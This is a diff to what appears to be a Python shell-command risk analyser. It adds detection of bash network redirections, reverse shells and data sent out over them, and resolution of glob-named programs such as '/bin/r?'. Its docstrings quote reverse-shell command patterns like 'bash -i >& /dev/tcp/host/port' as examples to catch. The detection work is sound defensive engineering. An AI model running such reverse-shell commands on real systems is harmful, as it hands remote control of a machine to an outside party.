@@ -7,6 +7,7 @@ copied.
 
 from __future__ import annotations
 
+import fnmatch
 import posixpath
 import re
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
@@ -94,12 +95,17 @@ ORDINARY_WORDS = frozenset(
 GO_FIRST = frozenset(("git", "make", "gmake", "ninja"))
 """Programs whose first option may be `-C directory`."""
 _UNDOES = frozenset((EffectKind.DELETE, EffectKind.DISCARD, EffectKind.ALTER, EffectKind.GRANT, EffectKind.EXPOSE))
+_PATTERN_OF_NAME = re.compile(r"[\w.+-]*[?*\[][\w.+?*\[\]-]*")
+_NETWORK = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/([^/\s]+)")
+MAX_NAMES = 64
+"""Programs that a pattern in the place of a name may mean."""
 _URL = re.compile(r"\w+://[^\s'\"`)]+")
 _DOT_COMMAND = re.compile(
     r"\s*\.(?:(?:shell|system)\s+(.+)|(?:output|once|excel|log)\s+(?:-\S+\s+)*(\S+)\s*$)", re.DOTALL
 )
 _KEEPS_RIGHTS = re.compile(r"[ugoa]*\+[rwxX]+|[ug]=rw[xX]?|0?[67][0-7][0-7]")
 _PATHLIKE = frozenset((ObjectKind.PATH, ObjectKind.SECRET, ObjectKind.CREDENTIAL, ObjectKind.PERSONAL_DATA))
+_NO_CARE = Care(Sensitivity.NONE, "")
 _CARES = frozenset((Sensitivity.SECRET, Sensitivity.PERSONAL))
 
 
@@ -173,6 +179,7 @@ class _Interpreter:
         self.downloaded: dict[str, str] = {}
         self.mounts: dict[str, tuple[tuple[str, str], ...]] = {}
         self.copied: dict[str, Care] = {}
+        self.connection: str | None = None  # that the shell has opened under a descriptor
         self.judges_origin = facts.user_request is not None or bool(facts.untrusted_content)
 
     # Readings and calls
@@ -249,6 +256,8 @@ class _Interpreter:
             self._program(call, frame)
         for redirection in call.redirections:
             self._redirection(redirection, call)
+            if (url := _network_of(redirection.target.text)) is not None:
+                self._connection(url, call, self.effects[first:])
         effects = self.effects[first:]
         self.effects_of[id(original)] = (original, effects)
         self._remember(call, effects)
@@ -259,7 +268,8 @@ class _Interpreter:
             return
         program = self._entry(call.program)
         if program is None:
-            self._unknown(call, frame)
+            if not self._by_pattern(call, frame):
+                self._unknown(call, frame)
             return
         self.covered_calls += 1
         call = _in_named_directory(call)
@@ -287,8 +297,11 @@ class _Interpreter:
             self._inner(inner, parsed, call, frame)
         if not inners and call.program not in TEXT_TOOLS:
             self._shells_in_options(call, frame)
-        if frame.depth and program.name in SHELLS and _waits_for_typing(parsed):
-            self._interactive_shell(call)
+        if program.name in SHELLS and _waits_for_typing(parsed):
+            if self.connection is not None:
+                self._network_shell(self.connection, call)
+            elif frame.depth:
+                self._interactive_shell(call)
 
     def _entry(self, name: str) -> Program | None:
         """The program's entry; a version behind the name and what names only the shell are taken away."""
@@ -311,6 +324,15 @@ class _Interpreter:
                 return catalogue.program(name.removesuffix(suffix))
         shorter = name.rstrip("0123456789.-")
         return catalogue.program(shorter) if shorter and shorter != name else None
+
+    def _by_pattern(self, call: Call, frame: _Frame) -> bool:
+        """A name that the shell completes from what is installed, such as `/bin/r?`: each program that it may be."""
+        if not call.path.startswith("/") or frame.depth > 1 or _PATTERN_OF_NAME.fullmatch(call.program) is None:
+            return False
+        names = [name for name in fnmatch.filter(self.catalogue, call.program) if ":" not in name]
+        for name in names[:MAX_NAMES]:
+            self._program(replace(call, program=name), replace(frame, depth=frame.depth + 2))
+        return bool(names)
 
     # Rows
 
@@ -519,15 +541,16 @@ class _Interpreter:
     def _care(self, word: Word, directory: str | None) -> Care:
         """The care that a word's path deserves: its own, of what was copied there, or of what a substitution prints."""
         text = word.text
-        care = care_of(text, self.facts.os)
+        computed = not word.known and any(mark in text for mark in ("$(", "`", "<("))
+        care = _NO_CARE if computed else care_of(text, self.facts.os)
         if care.sensitivity is Sensitivity.NONE and directory is not None:
             care = care_of(located(text, self.facts, directory), self.facts.os)
         if self.copied and care.sensitivity not in _CARES:
             care = self.copied.get(located(text, self.facts, directory), care)
-        computed = not word.known and any(mark in text for mark in ("$(", "`", "<("))
         if computed and care.sensitivity is Sensitivity.NONE and not text.startswith(PUBLIC_CERTIFICATES):
-            found = (care_of(piece) for piece in _pieces(text))
-            care = next((known for known in found if known.sensitivity in _CARES), care)
+            found = [care_of(piece) for piece in _pieces(text)]
+            cares = [known for known in found if known.sensitivity is not Sensitivity.NONE]
+            care = next((known for known in cares if known.sensitivity in _CARES), cares[0] if cares else care)
         return care
 
     def _on_host(self, place: Place, call: Call) -> Place:
@@ -698,7 +721,7 @@ class _Interpreter:
 
     def _redirection(self, redirection: Redirection, call: Call) -> None:
         word = redirection.target
-        if is_nowhere(word.text):
+        if is_nowhere(word.text) or _network_of(word.text) is not None:
             return
         if redirection.operator == "<":
             kind = EffectKind.READ
@@ -723,6 +746,26 @@ class _Interpreter:
         self._add(effect)
         if kind in _WRITES:
             self._consequences(effect, _directory(call))
+
+    def _connection(self, url: str, call: Call, effects: Sequence[Effect]) -> None:
+        """The shell opens a connection as if it were a file: `bash -i >& /dev/tcp/host/port`."""
+        if call.program in SHELLS:
+            self._network_shell(url, call)
+            return
+        if call.program == ":":
+            self.connection = url  # for those that come after: `exec 5<>/dev/tcp/host/port; sh <&5 >&5`
+        fed = self._fed(call.stdin).care
+        read = [target for effect in effects if effect.kind is EffectKind.READ for target in effect.targets]
+        targets = tuple(target for target in read if target.sensitivity in _CARES)
+        if fed is not None:
+            targets = (*targets, self._fed_target(call, EffectKind.SEND))
+        if targets:
+            self._generic_effect(EffectKind.SEND, ObjectKind.PATH, targets, call, {"url": url}, True)
+
+    def _network_shell(self, url: str, call: Call) -> None:
+        detail = {"code": "interactive_shell", "url": url}
+        target = (Target(url, self._placed(Place.REMOTE, ObjectKind.PROCESS)),)
+        self._generic_effect(EffectKind.EXECUTE, ObjectKind.NETWORK, target, call, detail, True)
 
     # Inner actions
 
@@ -962,6 +1005,8 @@ class _Interpreter:
         if fed.urls:
             self._code("remote", call, fed.urls)
             return
+        if self.connection is not None and len(call.words) == 1:
+            self._network_shell(self.connection, call)
         self._generic(call, frame)
         self.uncovered.append(Uncovered(call.span, "a program whose name is computed"))
 
@@ -1102,6 +1147,12 @@ class _Interpreter:
 
 def _directory(call: Call) -> str | None:
     return call.directory.text if call.directory is not None else None
+
+
+def _network_of(path: str) -> str | None:
+    """The address behind a name by which bash opens a connection: `/dev/tcp/host/port`."""
+    found = _NETWORK.match(path) if path.startswith("/dev/") else None
+    return f"{found[1]}://{found[2]}:{found[3]}" if found else None
 
 
 def _shortened(name: str) -> str:
